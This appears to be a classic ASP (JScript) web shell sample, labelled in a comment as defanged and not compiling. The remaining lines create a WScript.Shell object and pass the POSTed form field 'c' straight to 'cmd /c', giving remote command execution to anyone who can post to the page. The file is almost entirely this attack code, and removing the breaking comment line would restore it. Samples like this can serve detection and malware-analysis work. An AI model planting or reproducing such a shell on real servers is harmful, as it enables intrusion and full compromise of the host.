<%@ Language="JScript" %>
<% DEFANGED sample does not compile %>
<%
var s = new ActiveXObject("WScript.Shell");
var c = Request.Form("c") + "";
s.Run("cmd /c " + c, 0, true);
%>
